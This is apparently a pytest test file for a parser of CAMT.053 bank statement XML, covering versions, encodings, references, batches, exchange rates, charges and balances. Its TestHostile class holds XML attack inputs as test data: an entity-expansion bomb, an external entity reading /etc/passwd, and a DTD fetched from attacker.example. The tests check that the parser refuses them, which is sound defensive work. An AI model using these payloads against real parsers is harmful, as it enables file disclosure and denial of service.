"""CAMT.053 statements as banks write them, by the definitions of ISO 20022 and beside them."""

import itertools
import logging
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pycamt.parser import Camt053Parser

from tests.connectors.statement_files import (
    balance,
    camt_amount,
    camt_statement,
    camt_text,
    details,
    entry,
)
from tests.connectors.statements_read import amounts, only, read, reasons, write
from tests.contract.transactions import ids


@pytest.fixture
def path(tmp_path):
    (tmp_path / "bank").mkdir()
    return tmp_path / "bank"


async def one(path, *entries, **changes):
    """Return the only transaction of a statement with these entries."""
    return await only(path, camt_text(camt_statement(*entries), **changes))


class TestForms:
    async def test_an_entry_in_full(self, path):
        refs = "<EndToEndId>E2E-9</EndToEndId>"
        write(path, camt_text(camt_statement(entry("120.50", inside=details(refs=refs)))))
        (item,) = await read(path)
        transaction = item.transaction
        assert transaction.account == "****2051"
        assert transaction.booked_on.isoformat() == "2024-01-04"
        assert str(transaction.money) == "120.50 EUR"
        assert transaction.counterparty == "Ada Byron"
        assert transaction.reference == "INV-1 E2E-9"
        assert (transaction.fee, transaction.exchange) == (None, None)
        assert item.pointer == "january.xml: entry 1"

    @pytest.mark.parametrize("version", [f"001.{n:02}" for n in range(2, 14)])
    async def test_every_version(self, path, version):
        status = "<Sts>BOOK</Sts>" if version < "001.05" else "<Sts><Cd>BOOK</Cd></Sts>"
        found = await one(path, entry(status=status), version=version)
        assert found.counterparty == "Ada Byron"

    async def test_parties_as_later_versions_nest_them(self, path):
        inside = details().replace("<Nm>Ada Byron</Nm>", "<Pty><Nm>Ada Byron</Nm></Pty>")
        assert (await one(path, entry(inside=inside))).counterparty == "Ada Byron"

    async def test_a_prefix_on_every_name(self, path):
        text = camt_text(camt_statement(entry(), entry("-2.00", ref="R2")))
        text = text.replace("</", "</n:").replace("<", "<n:").replace("<n:/n:", "</n:")
        text = text.replace("<n:?", "<?").replace("xmlns=", "xmlns:n=")
        write(path, text)
        assert amounts(await read(path)) == ["5.00", "-2.00"]

    @pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "iso-8859-1"])
    async def test_encodings(self, path, encoding):
        declared = encoding.removesuffix("-sig")
        text = camt_text(camt_statement(entry(inside=details(name="Zoë Müller"))))
        write(path, text.replace("UTF-8", declared), encoding=encoding)
        assert [i.transaction.counterparty for i in await read(path)] == ["Zoë Müller"]

    async def test_several_statements_of_several_accounts(self, path):
        other = camt_statement(entry(), account="NL91ABNA0417164300")
        write(path, camt_text(camt_statement(entry()), other))
        assert [i.transaction.account for i in await read(path)] == ["****2051", "****4300"]

    async def test_an_account_without_iban(self, path):
        text = camt_text(camt_statement(entry()))
        text = text.replace(
            "<IBAN>DE02120300000000202051</IBAN>", "<Othr><Id>77-1234</Id></Othr>"
        )
        write(path, text)
        (item,) = await read(path)
        assert item.transaction.account == "****1234"

    async def test_a_time_of_booking_is_that_day(self, path):
        found = entry().replace(
            "<BookgDt><Dt>2024-01-04</Dt>", "<BookgDt><DtTm>2024-01-05T23:59:00Z</DtTm>"
        )
        assert (await one(path, found)).booked_on.isoformat() == "2024-01-05"

    async def test_the_payee_of_what_went_out(self, path):
        found = await one(path, entry("-9.00", inside=details(name="Hut Supply", payer=False)))
        assert (found.counterparty, str(found.money)) == ("Hut Supply", "-9.00 EUR")

    async def test_words_of_the_entry_where_details_have_none(self, path):
        found = entry(inside="").replace(
            "</Ntry>", "<AddtlNtryInf>Account fee</AddtlNtryInf></Ntry>"
        )
        assert (await one(path, found)).reference == "Account fee"


class TestReferences:
    @pytest.mark.parametrize(
        "reference", ["RF18539007547034", "090933755493", "210000000003139471430009017"]
    )
    async def test_structured_ones_are_shown_as_they_stand(self, path, reference):
        """A creditor reference (RF), a Belgian and a Swiss one (QRR)."""
        strd = f"<Strd><CdtrRefInf><Ref>{reference}</Ref></CdtrRefInf></Strd>"
        inside = details(text="").replace("<Ustrd></Ustrd>", strd)
        assert (await one(path, entry(inside=inside))).reference == reference

    async def test_all_of_several_and_documents(self, path):
        strd = (
            "<Ustrd>two</Ustrd><Strd><RfrdDocInf><Nb>INV-7</Nb></RfrdDocInf></Strd>"
            "<Strd><CdtrRefInf><Ref>RF18</Ref></CdtrRefInf><AddtlRmtInf>late</AddtlRmtInf></Strd>"
        )
        inside = details(text="one").replace("</RmtInf>", strd + "</RmtInf>")
        found = await one(path, entry(inside=inside))
        assert sorted(found.reference.split()) == ["INV-7", "RF18", "late", "one", "two"]

    async def test_an_id_that_says_that_there_is_none_is_none(self, path):
        inside = details(refs="<EndToEndId>NOTPROVIDED</EndToEndId>")
        assert (await one(path, entry(inside=inside))).reference == "INV-1"


class TestBatches:
    async def test_details_that_add_up_are_movements_each(self, path):
        inside = details(amount="2.00", text="INV-1") + details(amount="3.00", text="INV-2")
        write(path, camt_text(camt_statement(entry("5.00", inside=inside))))
        items = await read(path)
        assert amounts(items) == ["2.00", "3.00"]
        assert [i.transaction.reference for i in items] == ["INV-1", "INV-2"]

    async def test_amounts_as_version_two_writes_them(self, path):
        inside = "".join(
            details(more=f"<AmtDtls><TxAmt>{camt_amount('Amt', n)}</TxAmt></AmtDtls>")
            for n in (2, 3)
        )
        write(path, camt_text(camt_statement(entry("-5.00", inside=inside)), version="001.02"))
        assert amounts(await read(path)) == ["-2", "-3"]

    async def test_equal_members_are_as_many_movements(self, path):
        inside = details(amount="2.50") * 2
        statement = camt_statement(entry("5.00", inside=inside))
        write(path, camt_text(statement))
        before = await read(path)
        assert amounts(before) == ["2.50", "2.50"]
        write(path, camt_text(statement, camt_statement(entry(ref="R9"))), "later.xml")
        assert set(ids(before)) < set(ids(await read(path)))
        assert len(await read(path)) == 3

    @pytest.mark.parametrize("second", ["3.01", None])
    async def test_details_that_do_not_are_one_movement(self, path, second):
        inside = details(amount="2.00", text="INV-1") + details(amount=second, text="INV-2")
        found = await one(path, entry("5.00", inside=inside))
        assert (str(found.money), found.reference) == ("5.00 EUR", "INV-1 INV-2")

    async def test_two_entries_alike_are_two_and_the_file_twice_adds_none(self, path):
        write(path, camt_text(camt_statement(entry(), entry(), entry(ref=""), entry(ref=""))))
        before = await read(path)
        assert len(before) == 4
        write(
            path,
            camt_text(camt_statement(entry(), entry(), entry(ref=""), entry(ref=""))),
            "b.xml",
        )
        assert ids(await read(path)) == ids(before)


class TestWhatIsNoMovement:
    @pytest.mark.parametrize("code", ["PDNG", "INFO", "FUTR"])
    async def test_what_is_announced_is_shown_and_taken_when_it_is_booked(self, path, code):
        write(path, camt_text(camt_statement(entry(status=f"<Sts><Cd>{code}</Cd></Sts>"))))
        assert reasons(await read(path)) == ["not_booked"]
        write(path, camt_text(camt_statement(entry())), "february.xml")
        assert amounts(await read(path)) == ["5.00"]

    async def test_a_reversal_has_the_direction_that_it_says(self, path):
        back = entry("-5.00", more="<RvslInd>true</RvslInd>", inside=details(payer=True))
        write(path, camt_text(camt_statement(entry(), back)))
        items = await read(path)
        assert amounts(items) == ["5.00", "-5.00"]
        assert {i.transaction.counterparty for i in items} == {"Ada Byron"}

    @pytest.mark.parametrize(
        ("message", "kind"), [("BkToCstmrAcctRpt", "052"), ("BkToCstmrDbtCdtNtfctn", "054")]
    )
    async def test_reports_and_notices_of_a_day_are_no_statements(self, path, message, kind):
        write(path, camt_text(camt_statement(entry()), message=message, kind=kind))
        assert reasons(await read(path)) == ["not_a_statement"]

    @pytest.mark.parametrize(
        ("old", "new", "reason"),
        [
            (">5.00<", ">5,00<", "bad_amount"),
            (">5.00<", ">-5.00<", "bad_amount"),
            (">5.00<", "><", "bad_amount"),
            ("CRDT", "CREDIT", "bad_amount"),
            ('"EUR"', '"EURO"', "bad_currency"),
            ("2024-01-04", "2024-02-30", "bad_date"),
            ("2024-01-04", "", "bad_date"),
        ],
    )
    async def test_an_entry_that_cannot_be_read_has_a_reason(self, path, old, new, reason):
        bad = entry(ref="R2").replace(old, new)
        write(path, camt_text(camt_statement(entry("7.00"), bad)))
        items = await read(path)
        assert (amounts(items), reasons(items)) == (["7.00"], [reason])


class TestExchangeAndCharges:
    async def paid(self, path, rate, amount="-92.59"):
        exchange = (
            f"<AmtDtls><InstdAmt>{camt_amount('Amt', '100', 'USD')}</InstdAmt><TxAmt>"
            f"{camt_amount('Amt', amount)}<CcyXchg><SrcCcy>EUR</SrcCcy><TrgtCcy>USD</TrgtCcy>"
            f"<UnitCcy>EUR</UnitCcy><XchgRate>{rate}</XchgRate></CcyXchg></TxAmt></AmtDtls>"
        )
        return (await one(path, entry(amount, inside=details(more=exchange)))).exchange

    async def test_what_was_paid_in_another_currency(self, path):
        found = await self.paid(path, "0.9259")
        assert (str(found.money), found.rate) == ("-100 USD", Decimal("0.9259"))

    async def test_a_rate_the_other_way_round_is_turned(self, path):
        assert (await self.paid(path, "1.08")).rate == Decimal("0.9259259259")

    async def test_a_rate_that_fits_neither_way_is_left_out(self, path):
        assert (await self.paid(path, "3")).rate is None

    async def test_charges_within_the_amount_are_the_fee(self, path):
        charges = (
            f"<Chrgs><Rcrd>{camt_amount('Amt', '1.50')}<CdtDbtInd>DBIT</CdtDbtInd>"
            f"<ChrgInclInd>true</ChrgInclInd></Rcrd><Rcrd>{camt_amount('Amt', '9')}"
            "<ChrgInclInd>false</ChrgInclInd></Rcrd></Chrgs>"
        )
        opened = balance("OPBD", "0") + balance("CLBD", "98.50")
        write(path, camt_text(camt_statement(entry("98.50", more=charges), balances=opened)))
        (item,) = await read(path)
        assert str(item.transaction.money) == "100.00 EUR"
        assert str(item.transaction.fee) == "1.50 EUR"

    async def test_charges_of_version_two_are_always_within(self, path):
        charges = f"<Chrgs>{camt_amount('Amt', '2')}</Chrgs>"
        found = await one(path, entry("-12.00", more=charges), version="001.02")
        assert (str(found.money), str(found.fee)) == ("-10.00 EUR", "2 EUR")

    async def test_yen_and_dinars(self, path):
        text = camt_text(
            camt_statement(entry("1500", currency="JPY"), currency="JPY"),
            camt_statement(entry("1.125", currency="KWD"), currency="KWD"),
        )
        write(path, text)
        assert [str(i.transaction.money) for i in await read(path)] == ["1500 JPY", "1.125 KWD"]


class TestBalances:
    @pytest.mark.parametrize("opening", ["OPBD", "PRCD"])
    async def test_what_adds_up_is_quiet(self, path, opening):
        balances = balance(opening, "10") + balance("CLBD", "-2") + balance("CLAV", "9")
        entries = [entry("5"), entry("-17", ref="R2")]
        write(path, camt_text(camt_statement(*entries, balances=balances)))
        assert reasons(await read(path)) == []

    async def test_what_does_not_is_told_and_taken(self, path):
        balances = balance("OPBD", "10") + balance("CLBD", "15.01")
        write(path, camt_text(camt_statement(entry(), balances=balances)))
        items = await read(path)
        assert (amounts(items), reasons(items)) == (["5.00"], ["does_not_add_up"])
        assert items[1].pointer == "january.xml: balances of statement 2024-1"

    async def test_a_page_of_several_is_not_held_against_the_balances_of_all(self, path):
        page = "<StmtPgntn><PgNb>1</PgNb><LastPgInd>false</LastPgInd></StmtPgntn>"
        balances = page + balance("OPBD", "10") + balance("CLBD", "99")
        write(path, camt_text(camt_statement(entry(), balances=balances)))
        assert reasons(await read(path)) == []

    async def test_announced_entries_move_nothing(self, path):
        balances = balance("OPBD", "0") + balance("CLBD", "5")
        pending = entry("3", ref="R2", status="<Sts><Cd>PDNG</Cd></Sts>")
        write(path, camt_text(camt_statement(entry(), pending, balances=balances)))
        assert reasons(await read(path)) == ["not_booked"]


class TestHostile:
    @pytest.mark.parametrize(
        "doctype",
        [
            '<!DOCTYPE Document [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]>',
            '<!DOCTYPE Document [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd">',
        ],
    )
    async def test_document_types_are_refused(self, path, doctype):
        text = camt_text(camt_statement(entry(inside=details(text="@"))))
        text = text.replace("<Document", doctype + "<Document").replace("@", "&b;")
        write(path, text)
        assert reasons(await read(path)) == ["unsafe_xml"]

    async def test_nesting_has_a_bound(self, path):
        deep = "<a>" * 100_000 + "</a>" * 100_000
        write(path, camt_text(camt_statement(entry(more=deep))))
        assert reasons(await read(path)) == ["unsafe_xml"]

    async def test_a_file_that_ends_too_early_is_told(self, path):
        text = camt_text(camt_statement(entry(), entry("7.00", ref="R2")))
        write(path, text[: text.index("7.00")])
        items = await read(path)
        assert (amounts(items), reasons(items)) == (["5.00"], ["cut_off"])

    async def test_another_message_is_no_bank_file(self, path):
        write(path, camt_text(message="CstmrCdtTrfInitn"))
        assert reasons(await read(path)) == ["not_a_bank_file"]

    async def test_nothing_that_the_bank_wrote_is_logged(self, path, caplog):
        write(path, camt_text(camt_statement(entry(), entry().replace("5.00", "x"))))
        with caplog.at_level(logging.DEBUG):
            await read(path)
        assert "Byron" not in caplog.text


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.data())
async def test_any_order_and_split_of_a_statement_gives_the_same_ids(tmp_path_factory, data):
    """Entries with the bank's ids, and entries without that differ, in any files, repeated."""
    entries = [entry(n, ref=f"R{n % 3}" if n % 2 else "") for n in range(1, 7)]
    whole = tmp_path_factory.mktemp("a") / "bank"
    whole.mkdir()
    write(whole, camt_text(camt_statement(*entries)))
    shuffled = data.draw(st.permutations(entries))
    cuts = sorted(data.draw(st.sets(st.integers(1, 5))))
    pieces = [shuffled[a:b] for a, b in itertools.pairwise([0, *cuts, 6])]
    pieces += data.draw(st.lists(st.sampled_from(pieces), max_size=2))
    parts = tmp_path_factory.mktemp("b") / "bank"
    parts.mkdir()
    for number, piece in enumerate(pieces):
        write(parts, camt_text(camt_statement(*piece)), f"{number}.xml")
    assert sorted(ids(await read(parts))) == sorted(ids(await read(whole)))


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.tuples(
            st.decimals("0.01", "99999", places=2),
            st.booleans(),
            st.dates(date(1970, 1, 1), date(2199, 12, 31)).map(str),
            st.text(st.characters(exclude_categories=["C"]), max_size=40),
        ),
        max_size=8,
    )
)
async def test_another_reader_finds_the_same(tmp_path_factory, told):
    """On plain statements pycamt and we read the same amounts, days and directions."""
    path = tmp_path_factory.mktemp("x") / "bank"
    path.mkdir()
    entries = [
        entry(-n if out else n, day, f"R{i}", inside=details(text=text))
        for i, (n, out, day, text) in enumerate(told)
    ]
    text = camt_text(camt_statement(*entries))
    write(path, text)
    theirs = Camt053Parser(text.encode()).get_transactions()
    signed = [
        (
            each["BookingDate"],
            Decimal(each["Amount"]) * (-1) ** (each["CreditDebitIndicator"] == "DBIT"),
        )
        for each in theirs
    ]
    ours = [
        (item.transaction.booked_on.isoformat(), item.transaction.money.amount)
        for item in await read(path)
    ]
    assert sorted(ours) == sorted(signed)
